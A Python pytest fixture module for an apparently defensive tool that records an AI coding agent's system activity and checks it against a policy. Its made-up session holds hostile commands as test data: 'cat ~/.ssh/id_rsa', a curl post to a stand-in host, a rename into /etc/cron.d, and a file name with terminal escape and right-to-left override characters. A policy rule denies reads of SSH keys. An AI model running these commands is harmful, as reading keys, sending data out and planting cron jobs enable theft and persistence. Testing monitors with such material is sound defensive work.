"""A made-up session with everything that a report has to cope with, also names that try to break a terminal."""

from __future__ import annotations

import contextlib
import os
import pty
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from types import SimpleNamespace
from typing import TextIO

import pyarrow as pa
import pytest

from collectors.replay.context import write_trace
from lictor.cli.app import invoke
from lictor.sessions import Session, play
from pipeline import schema
from pipeline.lake.writer import LakeWriter

BEGIN = 1_790_000_000_000_000_000
RUN = "r-20260921-demo"
HOSTILE = "/home/dev/repo/a\n\x1b[2Jb\u202etxt.exe"
CONTEXT = {"workspace": "/home/dev/repo", "home": "/home/dev", "user": "dev", "host": "box", "agent": "codex"}

POLICY = """\
lictor: 1
name: coding
defaults: { exec: allow, file.read: allow, file.write: deny, net.connect: deny }
rules:
  - { id: workspace, on: file.write, match: { path: "${workspace}/**" }, action: allow }
  - { id: keys, on: file.read, match: { path: "~/.ssh/**" }, action: deny, severity: high }
  - { id: looked, on: exec, match: { exe: /usr/bin/git }, action: audit }
tests:
  - { event: { on: file.read, path: ~/.ssh/id_rsa, exe: /usr/bin/cat }, expect: deny, rule: keys }
  - { event: { on: file.write, path: "${workspace}/x" }, expect: allow, rule: workspace }
"""

_COMMON = {
    "agent_run": RUN,
    "agent": "codex",
    "host": "box",
    "boot_id": "boot",
    "source": "ebpf",
    "user": "dev",
    "uid": 1000,
    "outcome": "success",
}


def _row(at: int, key: int, operation: str, **values: object) -> dict[str, object]:
    time_ns = BEGIN + at * 1_000_000
    group = schema.OPERATION_BY_NAME[operation].activity_class
    return {
        "time": time_ns // 1000,
        "time_ns": time_ns,
        "process_key": key,
        "pid": 4000 + key,
        "class": group,
        "operation": operation,
        **_COMMON,
        **values,
    }


def rows() -> list[dict[str, object]]:
    """Rows of the session, in order of time."""
    bash, git, cat, curl, sub = 1, 2, 3, 4, 5
    return [
        _row(0, bash, "exec", exe="/usr/bin/env", cmdline="env codex exec", cwd="/home/dev/repo", parent_key=99),
        _row(1, bash, "exec", exe="/usr/bin/bash", cmdline="bash -c 'git status; cat ~/.ssh/id_rsa'", cwd="/home/dev/repo", parent_key=99),
        _row(2, bash, "fork", child_key=git, child_pid=4000 + git, exe="/usr/bin/bash"),
        _row(3, git, "exec", exe="/usr/bin/git", cmdline="git status", cwd="/home/dev/repo", parent_key=bash, tool_call="call_1"),
        _row(4, git, "file.read", exe="/usr/bin/git", path="/home/dev/repo/.git/config", intent="read"),
        _row(5, git, "file.read", exe="/usr/bin/git", path="/home/dev/.gitconfig", intent="read", outcome="failure", errno=2),
        _row(6, git, "exit", exe="/usr/bin/git", exit_code=0, signal=0),
        _row(7, bash, "fork", child_key=cat, child_pid=4000 + cat, exe="/usr/bin/bash"),
        _row(8, bash, "fork", child_key=sub, child_pid=4000 + sub, exe="/usr/bin/bash"),
        _row(9, cat, "exec", exe="/usr/bin/cat", cmdline="cat /home/dev/.ssh/id_rsa", cwd="/home/dev/repo", parent_key=bash),
        _row(10, cat, "file.read", exe="/usr/bin/cat", path="/home/dev/.ssh/id_rsa", intent="read"),
        _row(11, cat, "exit", exe="/usr/bin/cat", exit_code=0, signal=9),
        _row(12, bash, "fork", child_key=curl, child_pid=4000 + curl, exe="/usr/bin/bash"),
        _row(13, curl, "exec", exe="/usr/bin/curl", cmdline="curl -d @x https://example.org", cwd="/home/dev/repo", parent_key=bash),
        _row(14, curl, "net.connect", exe="/usr/bin/curl", protocol="tcp", dst_ip="192.0.2.7", dst_port=443, outcome="denied", errno=1),
        _row(15, curl, "net.connect", exe="/usr/bin/curl", protocol="tcp", dst_ip="2001:db8::7", dst_port=443, outcome="denied", errno=1),
        _row(16, curl, "exit", exe="/usr/bin/curl", exit_code=7, signal=0),
        _row(17, bash, "file.create", exe="/usr/bin/bash", path=HOSTILE, intent="write,create"),
        _row(18, bash, "file.rename", exe="/usr/bin/bash", path="/home/dev/repo/a", path_to="/etc/cron.d/a"),
        _row(19, bash, "exit", exe="/usr/bin/bash", exit_code=7, signal=0),
    ]  # fmt: skip


def trace_table() -> pa.Table:
    """The session as a table of ``activity``, sparse, in lake types."""
    names = {name for row in rows() for name in row}
    fields = [f for f in schema.lake_schema("activity") if f.name in names]
    return pa.Table.from_pylist(rows(), schema=pa.schema(fields))


@pytest.fixture
def table() -> pa.Table:
    return trace_table()


@pytest.fixture(scope="session")
def made() -> SimpleNamespace:
    """What the made-up session is about, for tests that name it."""
    return SimpleNamespace(run=RUN, hostile=HOSTILE, begin=BEGIN, context=CONTEXT, policy=POLICY, rows=rows)


def write_session(folder: Path) -> Path:
    folder.mkdir()
    write_trace(trace_table(), folder / "trace.parquet", CONTEXT)
    (folder / "policy.yaml").write_text(POLICY)
    return folder


@pytest.fixture
def session(tmp_path: Path) -> Path:
    """A recorded session's folder, without expected verdicts."""
    return write_session(tmp_path / "session")


@pytest.fixture(scope="session")
def lake(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A lake that holds the session; for reading only."""
    folder = tmp_path_factory.mktemp("made-up")
    given = Session(write_session(folder / "session") / "trace.parquet", (folder / "session" / "policy.yaml",))
    with LakeWriter(folder / "lake", "box") as writer:
        play(given, {}, writer.append)
    return folder / "lake"


@pytest.fixture
def terminal(monkeypatch: pytest.MonkeyPatch):
    """Hands a real terminal of so many columns to a callable; gives all that was sent to it."""
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.delenv("NO_COLOR", raising=False)

    def sent(draw: Callable[[TextIO], object], columns: int = 80) -> str:
        monkeypatch.setenv("COLUMNS", str(columns))
        outer, inner = pty.openpty()
        with ThreadPoolExecutor(1) as reader, os.fdopen(inner, "w", encoding="utf-8") as out:
            # Read while it is written: a terminal holds a few KiB and then stops the writer.
            received = reader.submit(_read_all, outer)
            try:
                draw(out)
            finally:
                out.close()
            return received.result(10).decode().replace("\r\n", "\n")

    return sent


def _read_all(descriptor: int) -> bytes:
    parts: list[bytes] = []
    with contextlib.closing(os.fdopen(descriptor, "rb", buffering=0)) as terminal, contextlib.suppress(OSError):
        # The read behind the last byte fails, since nobody holds the other end any more.
        while part := terminal.read(65536):
            parts.append(part)
    return b"".join(parts)


@pytest.fixture
def lictor(capsys: pytest.CaptureFixture[str]):
    """Runs a command line in this process; gives exit status, standard output and standard error."""

    def run(*arguments: object) -> SimpleNamespace:
        capsys.readouterr()
        status = invoke([str(a) for a in arguments])
        out, err = capsys.readouterr()
        return SimpleNamespace(status=status, out=out, err=err)

    return run
